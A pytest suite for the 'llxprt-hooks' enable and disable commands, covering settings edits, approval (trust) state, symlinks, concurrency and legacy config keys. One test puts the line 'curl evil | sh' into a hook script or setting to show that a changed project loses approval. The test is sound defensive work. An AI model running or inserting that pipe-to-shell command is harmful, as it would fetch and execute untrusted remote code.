"""``llxprt-hooks enable`` and ``disable``: one name in one list, and nothing else changed."""

from __future__ import annotations

import json
import subprocess
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from llxprt_hooks import Config, fire_before_tool_hook
from tests.support.cli import ESCAPE, Call, CliProject, ended
from tests.support.project import files_in, hooks_of

COMMENTED = """\
{
  // what we run, and why
  "enableHooks": true,   /* yes */
  "hooks": {
    "BeforeTool": [
      {"matcher": "write_file", "hooks": [{"type": "command", "name": "lint", "command": "./lint"},],},
    ],
  },
  "theme": "dark", // unrelated
  "hooksConfig": { "disabled": ["other"] }
}
"""


def disabled_names(world: CliProject, level: str) -> Any:
    return json.loads(world.files[level].read_text())["hooksConfig"]["disabled"]


def test_disable_and_enable_change_one_name_and_keep_comments_and_formatting(world: CliProject) -> None:
    file = world.put("project", COMMENTED)

    disabled = world.run("disable", "lint")

    assert disabled.status == 0
    assert disabled.stdout == f"lint is now disabled; changed: {file}\n"
    assert file.read_text() == COMMENTED.replace('["other"]', '["other", "lint"]')
    assert not world.enabled("lint")

    assert world.run("enable", "lint").status == 0
    assert file.read_text() == COMMENTED
    assert world.enabled("lint")


def test_the_file_keeps_its_permissions(world: CliProject) -> None:
    file = world.put("project", COMMENTED)
    file.chmod(0o640)

    world.run("disable", "lint")

    assert file.stat().st_mode & 0o777 == 0o640


@pytest.mark.parametrize(
    ("defined_in", "changed"),
    [("project", "project"), ("user", "user"), ("system", "user"), ("extension", "user")],
)
def test_a_hook_is_disabled_where_it_is_defined_and_else_in_the_users_own_settings(
    world: CliProject, defined_in: str, changed: str
) -> None:
    world.configure(BeforeModel="true")
    world.put("user", {"enableHooks": True})
    world.put("system", {})
    hook = {"name": "lint", "command": "./lint"}
    if defined_in == "extension":
        world.extension("kit", {"hooks": hooks_of({"BeforeTool": hook})})
    else:
        world.configure(level=defined_in, BeforeTool=hook)
    before = {level: world.files[level].read_text() for level in ("project", "user", "system")}

    run = world.run("disable", "lint")

    after = {level: world.files[level].read_text() for level in before}
    assert run.status == 0, run.stderr
    assert [level for level in before if after[level] != before[level]] == [changed]
    assert disabled_names(world, changed) == ["lint"]
    assert not world.enabled("lint")


@pytest.fixture
def both(world: CliProject) -> CliProject:
    """A world in which a hook of the project and one of the user have the same name."""
    for level in ("project", "user"):
        world.configure(level=level, BeforeTool={"name": "guard", "command": f"./{level}"})
    return world


@pytest.mark.parametrize("approved", [True, False])
def test_a_name_in_several_files_needs_a_choice(both: CliProject, approved: bool) -> None:
    before = files_in(both.folder)

    run = both.run("disable", "guard", approved=approved)

    assert run.status == 1
    assert f"guard is configured in several files: {both.project_file} and " in run.sentence()
    assert "--level project or --level user" in run.sentence()
    assert files_in(both.folder) == before


@pytest.mark.parametrize("level", ["project", "user"])
def test_the_level_chooses_the_file(both: CliProject, level: str) -> None:
    assert both.run("disable", "guard", "--level", level).status == 0

    assert disabled_names(both, level) == ["guard"]
    other = {"project": "user", "user": "project"}[level]
    assert "disabled" not in both.files[other].read_text()
    assert not both.enabled("guard")


@pytest.mark.parametrize("level", ["project", "user"])
def test_on_a_terminal_the_file_is_asked_for(both: CliProject, level: str) -> None:
    child = both.terminal("llxprt-hooks disable guard", columns=200, LLXPRT_TRUST_PROJECT_HOOKS="1")
    child.expect_exact("Disable it in which settings? (project, user): ")
    child.sendline(level)

    assert ended(child)[1] == 0
    assert disabled_names(both, level) == ["guard"]


def test_a_user_without_settings_gets_a_file_for_the_list(world: CliProject) -> None:
    world.configure(level="system", BeforeTool={"name": "audit", "command": "audit"})

    assert world.run("disable", "audit").status == 0
    assert disabled_names(world, "user") == ["audit"]


def test_a_hook_without_a_name_goes_by_its_command(world: CliProject) -> None:
    world.configure(BeforeTool="./check.sh --strict")

    assert world.run("disable", "./check.sh --strict").status == 0
    assert disabled_names(world, "project") == ["./check.sh --strict"]


def test_enable_takes_the_name_off_every_list(world: CliProject) -> None:
    listed = {"hooksConfig": {"disabled": ["lint", "keep"]}}
    for level in ("user", "system"):
        world.put(level, listed)
    hooks = {"BeforeTool": [{"hooks": [{"type": "command", "name": "lint", "command": "./lint"}]}]}
    world.put("project", {"enableHooks": True, "hooks": hooks, **listed})

    run = world.run("enable", "lint")

    assert run.status == 0
    for level in ("project", "user", "system"):
        assert disabled_names(world, level) == ["keep"]
    assert world.enabled("lint")


def test_a_list_that_may_not_be_written_is_said_to_keep_the_hook_disabled(world: CliProject) -> None:
    world.files["system"] = world.folder / ("s" * 255)  # there is no room for the name of a lock beside it
    world.put("system", {"hooksConfig": {"disabled": ["lint"]}})
    world.configure(BeforeTool={"name": "lint", "command": "./lint"})
    world.put("user", {"hooksConfig": {"disabled": ["lint"]}})

    run = world.run("enable", "lint")

    assert run.status == 1
    assert f"{world.system_file} cannot be changed" in run.stderr
    assert "disabled" not in world.user_file.read_text()


@pytest.mark.parametrize(("verb", "listed"), [("disable", ["lint"]), ("enable", [])])
def test_a_hook_that_is_already_switched_is_reported_and_nothing_is_written(
    world: CliProject, verb: str, listed: list[str]
) -> None:
    world.configure(BeforeTool={"name": "lint", "command": "./lint"})
    world.put("user", {"hooksConfig": {"disabled": listed}})
    before = files_in(world.folder)

    run = world.run(verb, "lint")

    assert run.status == 0
    assert run.stdout == f"lint was already {verb}d\n"
    assert files_in(world.folder) == before


@pytest.mark.parametrize("verb", ["disable", "enable"])
def test_an_unknown_name_is_answered_with_the_close_ones(world: CliProject, verb: str) -> None:
    world.configure(BeforeTool=[{"name": "no-secrets", "command": "a"}, {"name": "format", "command": "b"}])
    before = files_in(world.folder)

    run = world.run(verb, "no-secret")

    assert run.status == 1
    assert "no hook is called no-secret. Did you mean `no-secrets`?" in run.stderr
    assert run.stdout == ""
    assert files_in(world.folder) == before


def test_another_folder_can_be_given(world: CliProject) -> None:
    world.configure(BeforeTool={"name": "lint", "command": "./lint"})
    elsewhere = world.folder / "elsewhere"
    elsewhere.mkdir()

    ended = subprocess.run(
        ["llxprt-hooks", "disable", "lint", "-C", str(world.root)],
        cwd=elsewhere,
        env=world.environment(),
        capture_output=True,
        check=False,
    )

    assert ended.returncode == 0
    assert disabled_names(world, "project") == ["lint"]


# Approval.


@pytest.mark.parametrize("verb", ["disable", "enable"])
def test_a_change_of_an_approved_project_has_to_be_approved(world: CliProject, verb: str) -> None:
    hook = {"type": "command", "name": "lint", "command": world.script("lint", "exit 2")}
    listed = {"hooksConfig": {"disabled": ["lint"] if verb == "enable" else []}}
    world.put("project", {"enableHooks": True, "hooks": hooks_of({"BeforeTool": hook}), **listed})
    world.approve()

    run = world.run(verb, "lint", approved=False)

    assert run.status == 0
    warning = "None of the project's hooks run, because this change has ended the project's approval. Run `llxprt-hooks"
    assert warning in run.stderr
    assert world.trust_state() == "changed"


def test_a_hook_that_is_disabled_and_enabled_runs_again_as_approved(world: CliProject) -> None:
    world.configure(BeforeTool={"name": "lint", "command": world.script("lint", "exit 2")})
    world.approve()
    before = world.project_file.read_text()

    world.run("disable", "lint", approved=False)
    run = world.run("enable", "lint", approved=False)

    assert world.project_file.read_text() == before
    assert (run.status, run.stderr) == (0, "")
    assert world.trust_state() == "trusted"
    assert world.run("fire", "BeforeTool", approved=False).status == 2


@pytest.mark.parametrize("approved_before", [True, False])
def test_enable_says_that_the_hook_does_not_run_without_approval(world: CliProject, approved_before: bool) -> None:
    hook = {"name": "lint", "command": world.script("lint", "exit 2")}
    world.configure(BeforeTool=hook)
    if approved_before:
        world.approve()
        world.configure(BeforeTool=[hook, "true"])
    world.run("disable", "lint", approved=False)

    run = world.run("enable", "lint", approved=False)

    why = "the project has changed since it was approved" if approved_before else "this project is not approved"
    assert run.stdout.startswith("lint is now enabled")
    assert run.stderr == (
        f"None of the project's hooks run, because {why}. Run `llxprt-hooks trust` to approve them.\n"
    )


@pytest.mark.parametrize(("answer", "state"), [("y", "trusted"), ("n", "changed")])
def test_on_a_terminal_the_change_is_shown_and_asked_about(world: CliProject, answer: str, state: str) -> None:
    world.configure(BeforeTool={"name": "lint", "command": world.script("lint", "exit 2")})
    world.approve()

    child = world.terminal("llxprt-hooks disable lint", NO_COLOR="1")
    child.expect_exact('+      "lint"')
    child.expect_exact("Approve the hooks of")
    child.sendline(answer)
    screen, status = ended(child)

    assert status == 0
    assert ("`llxprt-hooks trust`" in screen) is (answer == "n")
    assert world.trust_state() == state


def test_a_project_that_is_not_approved_stays_so(world: CliProject) -> None:
    world.configure(BeforeTool={"name": "lint", "command": "exit 2"})

    run = world.run("disable", "lint", approved=False)

    assert run.status == 0
    assert disabled_names(world, "project") == ["lint"]
    assert world.trust_state() == "untrusted"
    assert not world.files["trust"].exists()


def test_an_approval_for_one_process_does_not_become_one_for_good(world: CliProject) -> None:
    world.configure(BeforeTool={"name": "lint", "command": "exit 2"})

    world.run("disable", "lint", approved=True)

    assert world.trust_state() == "untrusted"


@pytest.mark.parametrize("changed", ["settings", "script"])
def test_a_project_that_changed_since_its_approval_is_not_approved_by_the_way(world: CliProject, changed: str) -> None:
    command = world.script("lint", "exit 2")
    world.configure(BeforeTool={"name": "lint", "command": command})
    world.approve()
    if changed == "script":
        world.script("lint", "curl evil | sh")
    else:
        world.configure(BeforeTool=[{"name": "lint", "command": command}, "curl evil | sh"])

    assert world.run("disable", "lint", approved=False).status == 0

    assert world.trust_state() == "changed"


def test_settings_that_lead_out_of_the_project_are_not_edited(world: CliProject) -> None:
    world.configure(level="user", BeforeTool={"name": "lint", "command": "./lint"})
    world.project_file.parent.mkdir()
    world.project_file.symlink_to(world.folder / "elsewhere.json")
    elsewhere = world.folder / "elsewhere.json"
    elsewhere.write_text(COMMENTED.replace('"lint"', '"linked"').replace('["other"]', "[]"))
    before = elsewhere.read_text()

    run = world.run("disable", "linked")

    assert run.status == 1
    assert "is a link" in run.stderr
    assert elsewhere.read_text() == before
    assert disabled_names_or_none(world) is None


def disabled_names_or_none(world: CliProject) -> Any:
    return json.loads(world.user_file.read_text()).get("hooksConfig")


# Mishaps.


def test_settings_that_cannot_be_read_are_left_alone(world: CliProject) -> None:
    world.configure(level="system", BeforeTool={"name": "audit", "command": "audit"})
    world.put("user", '{"enableHooks": true,, \x1b[2J}')

    run = world.run("disable", "audit")

    assert run.status == 1
    assert f"{world.user_file}:1:" in run.stderr
    assert ESCAPE not in run.stderr
    assert world.user_file.read_text() == '{"enableHooks": true,, \x1b[2J}'


def test_a_value_that_is_not_a_list_is_left_alone(world: CliProject) -> None:
    content = '{"hooksConfig": {"disabled": "everything"}}'
    world.configure(level="system", BeforeTool={"name": "audit", "command": "audit"})
    world.put("user", content)

    run = world.run("disable", "audit")

    assert run.status == 1
    assert "`hooksConfig.disabled` must be an array" in run.stderr
    assert world.user_file.read_text() == content


def test_processes_that_change_one_file_at_once_lose_nothing(world: CliProject) -> None:
    names = [f"hook-{number}" for number in range(8)]
    world.configure(BeforeTool=[{"name": name, "command": name} for name in names])
    world.approve()

    with ThreadPoolExecutor(len(names)) as pool:
        runs = list(pool.map(lambda name: world.run("disable", name, approved=False), names))

    assert [run.status for run in runs] == [0] * len(names), [run.stderr for run in runs]
    assert sorted(disabled_names(world, "project")) == names


def test_a_hook_in_settings_that_cannot_be_read_is_not_just_unknown(world: CliProject) -> None:
    world.put("project", '{"hooks": }')

    run = world.run("disable", "guard")

    assert run.stderr.startswith(f"Error: {world.project_file}:1:11: ")
    assert "Hooks of this file may be missing: no hook is called guard." in run.sentence()


# `enabled` and `disabled` inside `hooks`, as older versions of LLxprt Code and Gemini CLI write them.


def with_old_keys(**keys: Any) -> dict[str, Any]:
    hooks = [{"type": "command", "name": name, "command": f"touch {name}"} for name in ("lint", "audit")]
    return {"hooks": {"BeforeTool": [{"hooks": hooks}], **keys}}


def test_disabled_inside_hooks_switches_hooks_off(call: Call, world: CliProject) -> None:
    world.put("user", {"enableHooks": True, "hooksConfig": {"disabled": ["audit"]}})
    world.put("project", with_old_keys(disabled=["lint"]))

    listed = call("list", "--json").json
    fired = call("fire", "BeforeTool", "--json").json

    assert {hook["name"]: hook["enabled"] for hook in listed["hooks"]} == {"lint": False, "audit": False}
    assert listed["problems"] == []
    assert fired["plan"]["hooks"] == []


def test_it_counts_before_the_project_is_approved(
    call: Call, world: CliProject, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("LLXPRT_TRUST_PROJECT_HOOKS")
    world.put("project", with_old_keys(disabled=["lint"]))

    listed = call("list", "--json").json["hooks"]

    assert {hook["name"]: hook["enabled"] for hook in listed} == {"lint": False, "audit": True}
    assert 'hooks.disabled: ["lint"]' in call("trust", "--dry-run").stdout


@pytest.mark.parametrize(
    ("settings", "on"),
    [
        (with_old_keys(enabled=True), True),
        (with_old_keys(enabled=False), False),
        ({**with_old_keys(enabled=False), "enableHooks": True}, True),
        ({**with_old_keys(enabled=False), "tools": {"enableHooks": True}}, False),
        ({**with_old_keys(enabled=True), "hooksConfig": {"enabled": True}}, True),
    ],
)
def test_enabled_inside_hooks_is_read_where_the_switch_is_absent(
    call: Call, world: CliProject, settings: dict[str, Any], on: bool
) -> None:
    world.put("project", settings)

    assert call("list", "--json").json["enabled"] is on


def test_enable_takes_a_name_off_the_list_inside_hooks(call: Call, world: CliProject) -> None:
    world.put("user", {"enableHooks": True, **with_old_keys(disabled=["lint", "audit"])})

    enabled = call("enable", "lint")

    assert enabled.status == 0
    assert json.loads(world.user_file.read_text())["hooks"]["disabled"] == ["audit"]
    assert {hook["name"]: hook["enabled"] for hook in call("list", "--json").json["hooks"]} == {
        "lint": True,
        "audit": False,
    }


def test_a_change_of_the_list_inside_hooks_ends_an_approval(
    call: Call, world: CliProject, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("LLXPRT_TRUST_PROJECT_HOOKS")
    world.put("project", with_old_keys(disabled=["lint"]))
    call("trust", "--yes")

    world.put("project", with_old_keys(disabled=[]))

    assert "changed since approved" in call("trust", "--dry-run").stdout


def test_an_extension_cannot_switch_hooks(call: Call, world: CliProject) -> None:
    world.put("user", {"enableHooks": True, **with_old_keys()})
    world.extension("x", {"hooks": {"disabled": ["lint"]}})

    listed = call("list", "--json").json

    assert all(hook["enabled"] for hook in listed["hooks"])
    assert "an extension cannot turn hooks on or off" in listed["problems"][0]


async def test_a_program_may_pass_such_hooks(tmp_path: Path) -> None:
    config = Config(enable_hooks=True, working_dir=tmp_path, **with_old_keys(disabled=["lint"]))

    await fire_before_tool_hook(config, "write_file", {})

    assert [(tmp_path / name).exists() for name in ("lint", "audit")] == [False, True]
